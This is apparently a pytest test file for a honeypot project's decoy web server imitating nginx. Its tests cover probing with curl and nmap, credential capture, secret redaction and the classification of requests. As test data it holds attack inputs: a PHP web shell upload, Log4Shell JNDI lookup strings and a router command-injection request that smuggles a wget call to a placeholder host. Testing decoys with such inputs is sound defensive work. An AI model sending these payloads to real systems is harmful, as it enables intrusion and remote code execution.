"""The web server as its real clients meet it, and what of them goes on record."""

import json
import shutil
import subprocess
import zlib
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path

import httpx2
import pytest

from decnet.decoys import http, https
from decnet.events import CredentialOffered, FileCaptured, LimitHit, ProtocolViolation, RequestReceived
from decnet.kit.http import http_date, parse_http_date
from decnet.kit.web.nginx import Nginx
from decnet.sansio import Note, Send
from tests.serving import Served, served
from tests.transcripts import Host, context

CURL, NMAP = shutil.which("curl"), shutil.which("nmap")
needs_curl = pytest.mark.skipif(CURL is None, reason="curl is missing: apt install curl")
needs_nmap = pytest.mark.skipif(NMAP is None, reason="nmap is missing: apt install nmap")
WEAK = b"admin1234"  # the password of the portal's own admin where the seed is `alpha`


@pytest.fixture
def web(tmp_path: Path) -> Iterator[Served]:
    with served(tmp_path, "http", "https", archetype="web-server") as decky:
        yield decky


def curl(*arguments: str) -> subprocess.CompletedProcess[bytes]:
    assert CURL is not None
    return subprocess.run(
        [CURL, "-sS", "-k", "--noproxy", "*", *arguments], capture_output=True, timeout=30, check=True
    )


def origin(web: Served, name: str = "http") -> str:
    return f"{name}://{web.address}:{web.port(name)}"


def ask(data: bytes, archetype: str = "linux-server", distro: str | None = None) -> bytes:
    """What the decoy says to ``data``, without a network."""
    host = Host(http.DECOY, context(http.DECOY, "alpha", archetype, distro))
    return b"".join(action.data for action in host.received(data) if isinstance(action, Send))


def told(data: bytes) -> list[RequestReceived]:
    host = Host(http.DECOY, context(http.DECOY))
    facts = [action.fact for action in host.received(data) if isinstance(action, Note)]
    return [fact for fact in facts if isinstance(fact, RequestReceived)]


@needs_curl
@pytest.mark.parametrize("name", ["http", "https"])
def test_curl_reads_the_site(web: Served, name: str) -> None:
    base = origin(web, name)
    assert b"<title>Home" in curl(f"{base}/", f"{base}/about.html").stdout  # two requests on one connection
    head = curl("-I", f"{base}/").stdout
    assert head.startswith(b"HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nDate: ")
    assert curl("-r", "0-8", f"{base}/").stdout == b"<!DOCTYPE"
    assert (
        b"Intranet" in curl("--compressed", f"{base}/").stdout or b"</html>" in curl("--compressed", f"{base}/").stdout
    )
    assert [fact.method for fact in web.wait_for(RequestReceived, 5)][:4] == [b"GET", b"GET", b"HEAD", b"GET"]


@needs_curl
def test_curl_uploads_in_chunks(web: Served, tmp_path: Path) -> None:
    payload = b"<?php system($_GET['c']); ?>" * 1000
    (tmp_path / "shell.php").write_bytes(payload)
    chunked = ("-H", "Transfer-Encoding: chunked", "-H", "Expect:", "-T", str(tmp_path / "shell.php"))
    assert curl("-o", "/dev/null", "-w", "%{http_code}", *chunked, f"{origin(web)}/shell.php").stdout == b"404"
    captured = web.wait_for(FileCaptured)[0]
    assert (captured.path, captured.sha256, captured.stored) == (
        b"/shell.php",
        sha256(payload).hexdigest(),
        len(payload),
    )
    assert web.facts(RequestReceived)[0].effect == "execute"


@needs_curl
def test_curl_is_refused_what_is_too_large(web: Served, tmp_path: Path) -> None:
    (tmp_path / "big").write_bytes(bytes(3 << 20))
    answer = curl("-o", "/dev/null", "-w", "%{http_code}", "-F", f"f=@{tmp_path / 'big'}", f"{origin(web)}/upload")
    assert answer.stdout == b"413"
    assert web.wait_for(LimitHit)[0].limit == "client_max_body_size"


def test_httpx_logs_in_with_the_form(web: Served) -> None:
    with httpx2.Client(base_url=origin(web, "https"), verify=False, follow_redirects=True) as client:
        form = client.get("/login")
        assert 'name="csrf_token"' in form.text
        wrong = client.post("/login", data={"username": "admin", "password": "Sommer-99"})
        assert wrong.status_code == 200
        right = client.post("/login", data={"username": "admin", "password": WEAK.decode()})
        assert right.url.path == "/dashboard"
        assert "Overview" in right.text
        assert client.post("/login", data={"username": "admin", "password": "password"}).url.path == "/login"
    offers = web.wait_for(CredentialOffered, 3)
    assert [(fact.secret.reveal(), fact.accepted) for fact in offers] == [
        (b"Sommer-99", False),
        (WEAK, True),
        (b"password", False),
    ]
    assert not any(b"Sommer" in fact.body for fact in web.facts(RequestReceived))


@needs_curl
def test_basic_words_are_captured(web: Served) -> None:
    code = ("-o", "/dev/null", "-w", "%{http_code}")
    assert curl(*code, "-u", "tomcat:s3cret", f"{origin(web)}/admin/").stdout == b"401"
    assert curl(*code, "-u", f"admin:{WEAK.decode()}", f"{origin(web)}/admin/").stdout == b"200"
    offers = web.wait_for(CredentialOffered, 2)
    assert [(fact.principal, fact.mechanism, fact.accepted) for fact in offers] == [
        (b"tomcat", "basic", False),
        (b"admin", "basic", True),
    ]
    assert b"Basic ***" in web.facts(RequestReceived)[0].headers


@needs_curl
def test_the_plain_request_at_the_tls_port(web: Served) -> None:
    port = web.port("https")
    answer = curl("-i", f"http://{web.address}:{port}/").stdout
    assert answer.startswith(b"HTTP/1.1 400 Bad Request\r\n")
    assert b"The plain HTTP request was sent to HTTPS port" in answer


@needs_nmap
def test_nmap_names_the_product(web: Served) -> None:
    assert NMAP is not None
    ports = f"{web.port('http')},{web.port('https')}"
    command = [NMAP, "-Pn", "-n", "-sV", "-p", ports, web.address]
    seen = subprocess.run(command, capture_output=True, timeout=120, check=True).stdout.decode()
    assert seen.count("nginx 1.22.1") == 2, seen


@pytest.mark.parametrize(
    ("request_", "effect"),
    [
        (b"GET /?q=shoes&sort=id HTTP/1.1", "read"),
        (b"GET /a?class=sh&file=cat HTTP/1.1", "read"),
        (b"DELETE /a HTTP/1.1", "write"),
        (b"PROPPATCH /a HTTP/1.1", "write"),
        (b"GET /x?cmd=id HTTP/1.1", "execute"),
        (b"GET /%24%7bjndi:ldap://192.0.2.9/a%7d HTTP/1.1", "execute"),
        (b"GET /a?x=%2524%257Bjndi:dns://192.0.2.9%257D HTTP/1.1", "execute"),
        (b"POST /cgi-bin/luci/;stok=/locale?form=country&op=write&c=$(wget+http://192.0.2.9) HTTP/1.1", "execute"),
    ],
)
def test_what_a_request_would_do(request_: bytes, effect: str) -> None:
    (fact,) = told(request_ + b"\r\nHost: a\r\nUser-Agent: Mozilla/5.0 (compatible; curl/8)\r\n\r\n")
    assert fact.effect == effect


def test_secrets_are_elided_wherever_they_stand() -> None:
    body = b'{"user": "x", "password": "hunter2"}'
    head = (
        b"POST /a?api_key=hunter2&page=1 HTTP/1.1\r\nHost: a\r\nCookie: a=hunter2; b=hunter2\r\n"
        b"Referer: http://a/?pwd=hunter2\r\nProxy-Authorization: Digest hunter2\r\nX-Api-Key: hunter2\r\n"
        b"X-Forwarded-For: 203.0.113.9\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
    )
    (fact,) = told(head + body)
    assert b"hunter2" not in fact.headers + fact.target + fact.body
    assert ["X-Forwarded-For", "203.0.113.9"] in json.loads(fact.headers)
    assert fact.target == b"/a?api_key=***&page=1"


def test_a_browser_gets_it_compressed() -> None:
    answer = ask(b"GET / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip, deflate, br\r\n\r\n")
    head, _, body = answer.partition(b"\r\n\r\n")
    assert b'\r\nETag: W/"' in head
    assert head.endswith(b"Content-Encoding: gzip")
    size, _, rest = body.partition(b"\r\n")
    page = zlib.decompress(rest[: int(size, 16)], 31)
    assert b"Welcome to nginx!" in page
    assert len(page) == 615


def test_each_system_has_its_own_default_page() -> None:
    new, old = (ask(b"HEAD / HTTP/1.0\r\n\r\n", distro=distro) for distro in ("debian", "ubuntu22"))
    assert b"Content-Length: 615\r\n" in new
    assert b"Server: nginx/1.18.0 (Ubuntu)\r\n" in old
    assert b"Content-Length: 612\r\n" in old


@pytest.mark.parametrize(
    ("line", "lenient", "strict"),
    [(b"GET /a b HTTP/1.1", 404, 400), (b"GET /a  HTTP/1.1", 404, 404), (b"GET /a Hb HTTP/1.1", 400, 400)],
)
def test_what_later_versions_refuse(line: bytes, lenient: int, strict: int) -> None:
    request = line + b"\r\nHost: a\r\n\r\n"
    assert ask(request, distro="ubuntu22").startswith(b"HTTP/1.1 %d " % lenient)
    assert ask(request, distro="debian").startswith(b"HTTP/1.1 %d " % strict)


def test_a_thousand_requests_a_connection() -> None:
    answers = ask(b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n" * 1001)
    assert answers.count(b"HTTP/1.1 404") == 1000
    assert answers.count(b"Connection: close") == 1


def test_what_is_cut_short_is_recorded() -> None:
    for begun, kind in (
        (b"GET / HTTP/1.1\r\nX: y\r\n", ProtocolViolation),
        (b"POST / HTTP/1.0\r\nContent-Length: 9\r\n\r\nab", RequestReceived),
    ):
        host = Host(http.DECOY, context(http.DECOY))
        assert not list(host.received(begun))
        facts = [action.fact for action in host.session.closed(0) if isinstance(action, Note)]
        assert [type(fact) for fact in facts] == [kind]


def test_no_two_deckies_show_one_site() -> None:
    pages = set()
    for seed in "abcdefgh":
        host = Host(http.DECOY, context(http.DECOY, seed, "web-server"))
        sent = [action.data for action in host.received(b"GET / HTTP/1.0\r\n\r\n") if isinstance(action, Send)]
        pages.add(sent[0])
    assert len(pages) == 8


def test_padding_for_some_browsers() -> None:
    server = Nginx("nginx/1.22.1", compresses=True)
    assert len(server.page(404)) == 153
    assert len(server.page(404, agent=b"Mozilla/5.0 Chrome/120")) == 555
    assert b'bgcolor="white"' in Nginx("nginx/1.14.2", compresses=False).page(404)


@pytest.mark.parametrize(
    "text",
    [b"Sat, 01 Mar 2025 10:00:00 GMT", b"Saturday, 01-Mar-25 10:00:00 GMT", b"Sat Mar  1 10:00:00 2025"],
)
def test_dates_have_three_forms(text: bytes) -> None:
    assert parse_http_date(text) == 1_740_823_200_000_000
    assert http_date(1_740_823_200_000_000) == b"Sat, 01 Mar 2025 10:00:00 GMT"


@pytest.mark.parametrize("text", [b"", b"Sat, 31 Feb 2025 10:00:00 GMT", b"Sat, 01 Xyz 2025 10:00:00 GMT"])
def test_no_date(text: bytes) -> None:
    assert parse_http_date(text) is None


def test_the_two_doors_are_one_site() -> None:
    doors = [(decoy, context(decoy, "alpha", "web-server")) for decoy in (http.DECOY, https.DECOY)]
    pages = [
        b"".join(a.data for a in Host(d, v).received(b"GET / HTTP/1.0\r\n\r\n") if isinstance(a, Send))
        for d, v in doors
    ]
    assert pages[0] == pages[1]
